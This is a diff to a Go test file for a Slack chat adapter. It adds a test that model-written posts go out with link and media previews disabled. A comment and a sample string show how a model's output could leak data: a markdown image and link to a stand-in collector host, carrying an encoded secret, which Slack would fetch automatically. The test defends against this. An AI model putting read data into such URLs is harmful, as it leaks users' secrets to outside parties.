@@ -96,6 +96,26 @@ func TestTextIsSentWithParseNone(t *testing.T) {
 	}
 }
 
+// A link the model wrote is not previewed: Slack would fetch it when the
+// message is posted, with nobody clicking, and the URL can carry anything the
+// model read.
+func TestPostsUnfurlNothing(t *testing.T) {
+	srv := slackfake.New(t, slackfake.WithoutBotEcho())
+	a := newAdapter(t, srv)
+	ctx := testContext(t)
+	th := thread(srv, "C0DEV")
+	leak := "done ![build](https://collector.example/p.png?d=c2VjcmV0) https://collector.example/t?d=c2VjcmV0"
+	_, err := a.Post(ctx, th, leak)
+	must(t, err)
+	_, err = a.PostOnce(ctx, th, leak, chat.PostKey{ID: "k1"})
+	must(t, err)
+	for _, c := range srv.CallsTo("chat.postMessage") {
+		if c.Params.Get("unfurl_links") != "false" || c.Params.Get("unfurl_media") != "false" {
+			t.Errorf("chat.postMessage sent unfurl_links=%q unfurl_media=%q, want both false", c.Params.Get("unfurl_links"), c.Params.Get("unfurl_media"))
+		}
+	}
+}
+
 // A post that timed out but went through is found on the retry, not posted
 // again; a retry of a post that really failed posts it.
 func TestPostOnceFindsAPostThatWentThrough(t *testing.T) {
